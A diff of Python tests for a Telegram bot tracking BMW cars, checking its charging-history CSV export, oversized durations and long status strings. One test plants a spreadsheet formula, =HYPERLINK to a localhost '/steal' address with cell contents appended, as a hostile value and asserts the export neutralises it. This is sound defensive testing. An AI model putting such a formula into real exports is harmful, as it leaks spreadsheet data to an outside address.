@@ -7,7 +7,9 @@ the re-link prompt after a refused refresh, Refresh with the day's calls spent, 
 from __future__ import annotations
 
 import asyncio
+import csv
 import html
+import io
 import sqlite3
 from collections.abc import AsyncIterator, Callable
 from datetime import UTC, datetime, timedelta
@@ -25,9 +27,11 @@ from bot.cardata.simulator import (
     DEFAULT_SECONDARY_VIN,
     CardataSimulator,
 )
+from bot.cardata.simulator.fleet import CHARGING_STATUS, DOOR_STATUS
 from bot.chat import texts
 from bot.config import Settings
 from bot.garage import Garage
+from bot.history import CSV_COLUMNS
 from bot.sandbox.driver import ChatMessage, Sandbox, SandboxUser
 from tests.support.bot import fast_client, running_bot
 
@@ -583,3 +587,63 @@ async def test_location_and_copy_buttons_come_from_the_stream_without_a_bmw_call
     assert pin.location == pytest.approx((48.2, 11.6))
     assert pin.button("📋 Position").copy_text == "48.20000, 11.60000"
     assert len(cardata_simulator.requests) == calls  # the streamed position: nothing asked of BMW
+
+
+async def csv_rows(user: SandboxUser, listing: ChatMessage) -> list[list[str]]:
+    """Press the CSV button under a /history listing: the document's rows, header first."""
+    user.press(listing, "CSV")
+    await user.wait_for(lambda u: any(m.document for m in u.bot_messages))
+    document = next(m for m in user.bot_messages if m.document).document
+    assert document is not None
+    return list(csv.reader(io.StringIO(document.decode())))
+
+
+async def test_the_csv_neutralises_formulas_the_car_sends(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    hostile = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"details")'
+    cardata_simulator.plug_in(DEFAULT_BEV_VIN)
+    await until(charging(linked, DEFAULT_BEV_VIN), "the charge seen")
+    cardata_simulator.advance(60)
+    cardata_simulator.finish_charging(DEFAULT_BEV_VIN, reason=hostile)
+    await user.wait_for_bot_message("stopped charging")
+    user.send("/history")
+    listing = await user.wait_for_bot_message("Charging history of")
+
+    rows = await csv_rows(user, listing)
+    cells = [cell for row in rows for cell in row]
+    assert "'" + hostile in cells  # kept, but as text: a spreadsheet shows it rather than running it
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
+
+
+async def test_a_huge_charging_duration_from_bmw_breaks_neither_the_chart_nor_the_csv(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    start = int(cardata_simulator.now()) - 3600
+    session = {"startTime": start, "endTime": None, "displayedStartSoc": 30, "displayedSoc": 80}
+    cardata_simulator.car(DEFAULT_BEV_VIN).history.append({**session, "totalChargingDurationSec": 10**12})
+    user.send("/history")
+    listing = await user.wait_for_bot_message("Charging history of")
+    chart = await user.wait_for_bot_message("last 30 days")
+    assert chart.photo is not None
+    assert texts.SOMETHING_WRONG not in user.transcript()
+
+    rows = await csv_rows(user, listing)
+    minutes = [int(row[CSV_COLUMNS.index("minutes")]) for row in rows[1:]]
+    assert len(minutes) == 3 and max(minutes) < 7 * 24 * 60, rows  # no session of 31,000 years
+
+
+async def test_a_huge_unknown_status_from_the_car_keeps_status_within_telegrams_limit(
+    linked: Application, user: SandboxUser, cardata_simulator: CardataSimulator
+) -> None:
+    cardata_simulator.plug_in(DEFAULT_BEV_VIN, charging=False)
+    cardata_simulator.report(DEFAULT_BEV_VIN, CHARGING_STATUS, "SOME_NEW_STATE_" + "X" * 5000)
+    cardata_simulator.report(DEFAULT_BEV_VIN, DOOR_STATUS, "ANOTHER_" + "Y" * 5000)
+    await until(
+        lambda: len(cardata_of(linked).status(OWNER, DEFAULT_BEV_VIN).lock_state or "") > 5000, "streamed"
+    )
+    user.send("/status")
+    status = await user.wait_for_bot_message("🕒")
+    text = status.text or ""
+    assert "🔌 plugged in, some new state" in text and "🔐 another" in text, text
+    assert len(text) < 1000, text
